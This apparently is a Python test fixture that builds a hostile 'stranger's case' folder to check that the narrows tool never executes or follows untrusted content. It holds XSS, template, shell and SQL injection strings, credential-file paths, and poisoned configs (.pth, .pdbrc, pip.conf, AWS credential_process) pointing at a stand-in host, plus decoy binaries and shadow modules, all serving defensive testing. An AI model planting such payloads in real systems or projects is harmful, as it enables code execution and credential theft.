"""A case as a stranger who means harm would send it: real evidence, and beside it all that might be run or obeyed."""

from __future__ import annotations

import json
import sys
import sysconfig
from collections.abc import Iterator
from dataclasses import dataclass, field
from importlib.metadata import packages_distributions
from pathlib import Path

from narrows.case import write_case
from narrows.scenario import parse_scenario
from narrows.simulate import simulate_with_log
from narrows.writing.flow_logs import FlowLogOptions, write_simulated

ELSEWHERE = "203.0.113.99"
"""An address that only the stranger names."""

SCENARIO = """
name: "{name}"
vpc:
  subnets: {{a: {{az: a, route: nat}}}}
  nat_gateways: {{nat: {{addresses: 1}}}}
destinations: {{cache: {{port: 6379}}}}
functions: {{f: {{subnets: [a], security_groups: [sg], connections: [{{to: cache, connect_timeout: 1s}}]}}}}
demand: {{f: {{environments: {environments}}}}}
duration: 2s
"""


@dataclass(frozen=True)
class StrangersCase:
    """The folder, and what must not happen to it."""

    folder: Path
    outside: Path
    """What the case names outside itself is in here; nothing else is."""
    witness: Path
    """Written by the code of the folder, if any of it is ever run."""
    bait: frozenset[Path] = field(repr=False)
    """Files in the folder that are no evidence: nothing has a reason to open them."""


def hostile_texts(outside: Path) -> tuple[str, ...]:
    """What a text of the case may hold for whoever takes it for more than a text."""
    canary = outside / "canary.txt"
    return (
        f"<script src=http://{ELSEWHERE}/x.js></script><img src=x onerror=alert(1)>",
        "{{ 7 * 7 }}{% include '" + str(canary) + "' %}",
        f"$(cat {canary}) `touch owned` ; touch owned",
        f"'); COPY (SELECT 1) TO '{outside}/owned.csv'; INSTALL httpfs; LOAD httpfs; --",
        f"--endpoint-url=http://{ELSEWHERE}/",
        f"file://{canary}",
        f"http://{ELSEWHERE}/x",
        rf"\\{ELSEWHERE}\share\x",
        "s3://stranger/x.parquet",
        "../outside/canary.txt",
        str(canary),
        "~/.ssh/id_rsa",
        "$HOME/.ssh/id_rsa ${HOME} %(HOME)s",
    )


def write_strangers_case(above: Path) -> StrangersCase:
    """Write it to ``above``/case, and what it names to ``above``/outside."""
    folder, outside, witness = above / "case", above / "outside", above / "outside" / "it-ran"
    outside.mkdir(parents=True)
    (outside / "canary.txt").write_text("seconds,environments\n0,1\n")
    texts = hostile_texts(outside)
    recording, log = simulate_with_log(parse_scenario(SCENARIO.format(name="small", environments=20), "small"))
    write_case(recording, folder)
    write_simulated(folder / "flow-logs", recording, log, FlowLogOptions(format="text"))
    _put_texts(folder, texts)
    _put_flow_logs(folder)
    _put_scenarios(folder, outside)
    evidence = set(_files(folder))
    _put_settings(folder, witness)
    _put_programs(folder, witness)
    _put_modules(folder, witness)
    return StrangersCase(folder, outside, witness, frozenset(set(_files(folder)) - evidence))


def _files(folder: Path) -> Iterator[Path]:
    return (file for file in folder.rglob("*") if file.is_file())


def _put_texts(folder: Path, texts: tuple[str, ...]) -> None:
    """Where a case has room for free text: what was reported, tags, descriptions, what the callers logged."""
    everything = " ".join(texts)
    with (folder / "case.yaml").open("a") as about:
        about.write(f"reported: {json.dumps(everything)}\n")
    functions = folder / "lambda" / "functions.json"
    listed = json.loads(functions.read_text())
    for one in listed["Functions"]:
        one |= {"Description": everything, "Environment": {"Variables": {"PATH": ".", "URL": texts[0]}}}
    functions.write_text(json.dumps(listed))
    for kind in ("subnets", "nat-gateways", "security-groups", "vpcs"):
        file = folder / "ec2" / f"{kind}.json"
        answer = json.loads(file.read_text())
        for one in next(value for value in answer.values() if isinstance(value, list)):
            one |= {"Tags": [{"Key": "Name", "Value": text} for text in texts], "Description": everything}
        file.write_text(json.dumps(answer))
    lines = (f"2026-11-20T12:00:01.000Z Task timed out after 3.00 seconds {text}\n" for text in texts)
    (folder / "callers" / "f.log").write_text("".join(lines))


def _put_flow_logs(folder: Path) -> None:
    """Names that are a pattern, a statement or an option to whoever passes them on as such."""
    (real,) = (file for file in _files(folder / "flow-logs"))
    names = ("a[1].log.gz", "*.log.gz", "?.log.gz", "a1.log.gz", "'); COPY (SELECT 1) TO 'owned.csv'; --.log.gz")
    for name in (*names, "--endpoint-url=x.log.gz", "$HOME.log.gz", "~.log.gz", "{{7*7}}.log.gz"):
        (folder / "flow-logs" / name).write_bytes(real.read_bytes())
    for name in ("**", "s3:", "http:"):
        (folder / "flow-logs" / name).mkdir()
        (folder / "flow-logs" / name / "x.log.gz").write_bytes(real.read_bytes())


def _put_scenarios(folder: Path, outside: Path) -> None:
    (folder / "scenario.yaml").write_text(SCENARIO.format(name=f"<script>../{outside}", environments=20))
    for number, path in enumerate(("../outside/canary.txt", outside / "canary.txt")):
        named = SCENARIO.format(name="outside", environments=f"{{trace: {path}}}")
        (folder / f"outside-{number}.yaml").write_text(named)


def _put_settings(folder: Path, witness: Path) -> None:
    """What programs and libraries look for in the folder that they stand in."""
    settings = {
        ".numba_config.yaml": f"cache_dir: {witness.parent}\nopt: 0\n",
        ".duckdbrc": f".shell touch {witness}\nCOPY (SELECT 1) TO '{witness}';\n",
        ".netrc": f"machine {ELSEWHERE} login a password b\n",
        ".aws/config": f"[default]\nendpoint_url = http://{ELSEWHERE}\n",
        ".aws/credentials": f"[default]\ncredential_process = touch {witness}\n",
        ".env": f"AWS_ENDPOINT_URL=http://{ELSEWHERE}\n",
        ".pdbrc": f"import os; os.system('touch {witness}')\n",
        ".config/narrows.yaml": "out: /\n",
        "pip.conf": f"[global]\nindex-url = http://{ELSEWHERE}\n",
        "pyvenv.cfg": f"home = {folder}\ninclude-system-site-packages = true\n",
        "python311._pth": ".\nimport site\n",
        "spark-defaults.conf": f"spark.jars http://{ELSEWHERE}/x.jar\n",
        "conf/spark-env.sh": f"touch {witness}\n",
        "log4j2.properties": f"appender.x.fileName = {witness}\n",
        "narrows.pth": f"import os; os.system('touch {witness}')\n",
        "pyproject.toml": f"[tool.narrows]\nout = '{witness}'\n",
        "resolv.conf": f"nameserver {ELSEWHERE}\n",
        "terminfo/x/xterm": "x",
    }
    for name, text in settings.items():
        (folder / name).parent.mkdir(exist_ok=True, parents=True)
        (folder / name).write_text(text)


def _put_programs(folder: Path, witness: Path) -> None:
    for name in ("ip", "nft", "conntrack", "python", "python3", "java", "sh", "env", "aws", "narrows", "xdg-open"):
        for file in (folder / name, folder / "bin" / name):
            # The name of the package and of its decoy is the same.
            file = file.with_name("narrows.sh") if name == "narrows" else file
            file.parent.mkdir(exist_ok=True)
            file.write_text(f"#!/bin/sh\necho {name} >>{witness}\n")
            file.chmod(0o755)


def _put_modules(folder: Path, witness: Path) -> None:
    """A module or package by the name of everything that can be imported here."""
    code = f"open({str(witness)!r}, 'a').write(__name__ + '\\n')\n"
    packages = {"narrows", "encodings", "numpy", "yaml", "collections", "json"}
    names = {*sys.stdlib_module_names, *packages_distributions(), *packages, "sitecustomize", "usercustomize"}
    for name in sorted(name for name in names if name.isidentifier()):
        file = folder / name / "__init__.py" if name in packages else folder / f"{name}.py"
        file.parent.mkdir(exist_ok=True)
        file.write_text(code)
    for name in ("__main__", "cli/__init__", "lab/__init__", "lab/keeper"):
        (folder / "narrows" / name).parent.mkdir(exist_ok=True)
        (folder / "narrows" / f"{name}.py").write_text(code)
    suffix = sysconfig.get_config_var("EXT_SUFFIX") or ".so"
    for name in (f"_pickle{suffix}", f"_ctypes{suffix}", "libz.so.1", "libc.so.6", "libstdc++.so.6"):
        (folder / name).write_bytes(b"\x7fELF")
